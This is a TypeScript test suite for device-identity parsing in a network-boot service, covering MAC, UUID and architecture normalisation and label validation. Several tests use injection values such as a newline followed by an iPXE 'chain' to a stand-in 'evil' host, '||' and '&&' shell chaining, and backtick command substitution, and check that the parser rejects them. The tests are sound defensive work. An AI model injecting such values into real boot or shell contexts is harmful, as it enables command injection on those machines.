import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { IDENTITY_FIELDS, IdentityError, normaliseArch, normaliseMac, normaliseUuid, parseDevice } from '../../src/common/identity.ts';

describe('MAC addresses', () => {
  const valid: [string, string][] = [
    ['52:54:00:12:34:56', '52:54:00:12:34:56'],
    ['52-54-00-12-34-56', '52:54:00:12:34:56'],
    ['525400123456', '52:54:00:12:34:56'],
    ['52:54:00:AB:CD:EF', '52:54:00:ab:cd:ef'],
    [' 52-54-00-ab-cd-ef ', '52:54:00:ab:cd:ef'],
    // Surrounding whitespace is trimmed: what is kept is the normalised address, nothing else.
    ['52:54:00:12:34:56\n', '52:54:00:12:34:56'],
    // The forms Go's net.ParseMAC reads (matchbox's): dotted, and 8 or 20 octets.
    ['5254.0012.3456', '52:54:00:12:34:56'],
    ['5254.0000.0007', '52:54:00:00:00:07'],
    ['02:00:5e:10:00:00:00:01', '02:00:5e:10:00:00:00:01'],
    ['0200.5E10.0000.0001', '02:00:5e:10:00:00:00:01'],
  ];
  for (const [input, expected] of valid) {
    it(`accepts ${JSON.stringify(input)}`, () => assert.equal(normaliseMac(input), expected));
  }
  const invalid = ['', '52:54:00:12:34', '52:54:00:12:34:56:78', '52:54-00:12:34:56', 'zz:54:00:12:34:56', '5254.0012.345', '5254:0012:3456', '5254.0012-3456', '52540012345678', '52:54:00:12:34:5g', '52:54:00:12:34:56\nchain x'];
  for (const input of invalid) {
    it(`rejects ${JSON.stringify(input)}`, () => assert.equal(normaliseMac(input), undefined));
  }
});

describe('UUIDs and arches', () => {
  it('normalises UUIDs to lowercase dashed form', () => {
    assert.equal(normaliseUuid('4C4C4544-0042-3510-8052-B7C04F4B4D31'), '4c4c4544-0042-3510-8052-b7c04f4b4d31');
    assert.equal(normaliseUuid('4c4c454400423510 8052b7c04f4b4d31'), undefined);
    assert.equal(normaliseUuid('4c4c454400423510 8052b7c04f4b4d31'.replace(' ', '')), '4c4c4544-0042-3510-8052-b7c04f4b4d31');
    assert.equal(normaliseUuid('4c4c4544-0042-3510-8052-b7c04f4b4d3'), undefined);
  });
  it('accepts iPXE buildarch values and common aliases', () => {
    assert.equal(normaliseArch('x86_64'), 'x86_64');
    assert.equal(normaliseArch('amd64'), 'x86_64');
    assert.equal(normaliseArch('aarch64'), 'arm64');
    assert.equal(normaliseArch('ARM64'), 'arm64');
    assert.equal(normaliseArch('sparc'), undefined);
  });
});

describe('parseDevice', () => {
  it('normalises identity fields, and labels only the MAC, as matchbox', () => {
    const parsed = parseDevice({ mac: '52-54-00-12-34-56', arch: 'x86_64', platform: 'EFI', os: 'installed', serial: '', uuid: '4C4C4544-0042-3510-8052-B7C04F4B4D31' });
    assert.deepEqual(parsed.identity, { mac: '52:54:00:12:34:56', arch: 'x86_64', platform: 'efi', uuid: '4c4c4544-0042-3510-8052-b7c04f4b4d31' });
    assert.deepEqual(parsed.labels, { mac: '52:54:00:12:34:56', arch: 'x86_64', platform: 'EFI', os: 'installed', uuid: '4C4C4544-0042-3510-8052-B7C04F4B4D31' });
    assert.deepEqual(parsed.warnings, []);
  });

  it('keeps values bootdepot cannot use as identity as labels, as given', () => {
    const parsed = parseDevice({ mac: '52:54:00:12:34:56', hostname: 'node_1', uuid: 'a1b2c3d4', platform: 'metal', arch: 'amd64' });
    assert.deepEqual(parsed.identity, { mac: '52:54:00:12:34:56', arch: 'x86_64' });
    assert.deepEqual(parsed.labels, { mac: '52:54:00:12:34:56', hostname: 'node_1', uuid: 'a1b2c3d4', platform: 'metal', arch: 'amd64' });
    assert.equal(parsed.warnings.length, 3);
    assert.ok(parsed.warnings.every((w) => /matched as given, not kept as the device's/.test(w)), parsed.warnings.join('\n'));
  });

  it('normalises a MAC under any case of its name, and drops one that is not a MAC', () => {
    assert.equal(parseDevice({ MAC: '5254.0012.3456' }).labels.MAC, '52:54:00:12:34:56');
    const bad = parseDevice({ mac: 'nope', MAC: 'nope' });
    assert.deepEqual(bad.labels, {});
    assert.equal(bad.warnings.length, 2);
  });

  it('matches the first of a repeated label, as matchbox', () => {
    const parsed = parseDevice({ mac: '52:54:00:12:34:56', zone: ['a', 'b'], hostname: ['n1', 'n2'] });
    assert.equal(parsed.labels.zone, 'a');
    assert.equal(parsed.labels.hostname, 'n1');
    assert.equal(parsed.identity.hostname, undefined);
    assert.equal(parsed.warnings.length, 2);
  });

  it('rejects a missing or invalid required field with a message naming it', () => {
    assert.throws(() => parseDevice({}, { required: ['mac'] }), (e: unknown) => e instanceof IdentityError && e.field === 'mac' && /mac is required/.test(e.message));
    assert.throws(() => parseDevice({ mac: 'nope' }, { required: ['mac'] }), /invalid mac "nope"/);
    assert.throws(() => parseDevice({ mac: ['52:54:00:12:34:56', '52:54:00:12:34:57'] }, { required: ['mac'] }), /given 2 times/);
  });

  it('drops invalid optional values with a warning', () => {
    const parsed = parseDevice({ mac: '52:54:00:12:34:56', uuid: 'x', arch: 'pdp11', platform: 'bios', hostname: 'a_b', ip: '999.1.1.1' });
    assert.deepEqual(parsed.identity, { mac: '52:54:00:12:34:56' });
    assert.equal(parsed.warnings.length, 5);
    for (const field of ['uuid', 'arch', 'platform', 'hostname', 'ip']) {
      assert.ok(parsed.warnings.some((w) => w.includes(`invalid ${field}`)), field);
    }
  });

  const hostile = ['a\nchain http://evil/x', 'a\rshell', '${evil}', '#comment', 'a || shell', 'a && shell', 'a b', '`id`', 'ünïcödé', 'x'.repeat(300)];
  for (const field of IDENTITY_FIELDS) {
    it(`never keeps a value with control characters, non-ASCII or overlong text in ${field}`, () => {
      for (const value of hostile) {
        const parsed = parseDevice({ [field]: value });
        const kept = parsed.identity[field];
        if (kept !== undefined) {
          // Only printable ASCII free text may survive; it is escaped wherever it is written.
          assert.match(kept, /^[\x20-\x7e]{1,128}$/, `${field}=${JSON.stringify(value)}`);
          assert.ok(['serial', 'manufacturer', 'product', 'asset'].includes(field), `${field} kept ${JSON.stringify(kept)}`);
        } else {
          assert.equal(parsed.warnings.length, 1, `${field}=${JSON.stringify(value)} should warn`);
        }
      }
    });
  }

  it('bounds and validates extra labels', () => {
    const query: Record<string, string> = { mac: '52:54:00:12:34:56', 'bad name!': 'x', ok: 'a\nb' };
    for (let i = 0; i < 40; i++) query[`l${i}`] = 'v';
    const parsed = parseDevice(query);
    assert.equal(Object.keys(parsed.labels).length, 1 + 32);
    assert.ok(parsed.warnings.some((w) => w.includes('invalid label name')));
    assert.ok(parsed.warnings.some((w) => w.includes('invalid value for label ok')));
    assert.ok(parsed.warnings.some((w) => w.includes('more than 32 labels')));
  });
});

describe('hex-encoded SMBIOS strings', () => {
  it('decodes <field>_hex, which carries & and + intact', () => {
    const serial = 'E2E 42&x+y';
    const parsed = parseDevice({ mac: '52:54:00:12:34:56', serial_hex: Buffer.from(serial).toString('hex'), serial: 'E2E 42', product_hex: '' });
    assert.equal(parsed.identity.serial, serial);
    assert.equal(parsed.labels.serial, serial);
    assert.equal(parsed.labels.serial_hex, undefined, 'the hex form is not a label');
    assert.equal(parsed.identity.product, undefined);
  });

  it('refuses malformed hex and non-ASCII bytes', () => {
    const bad = parseDevice({ serial_hex: 'zz' });
    assert.equal(bad.identity.serial, undefined);
    assert.match(bad.warnings[0] ?? '', /invalid serial_hex/);
    const newline = parseDevice({ serial_hex: Buffer.from('a\nchain x').toString('hex') });
    assert.equal(newline.identity.serial, undefined);
    const latin = parseDevice({ asset_hex: 'e9' });
    assert.equal(latin.identity.asset, undefined);
  });
});
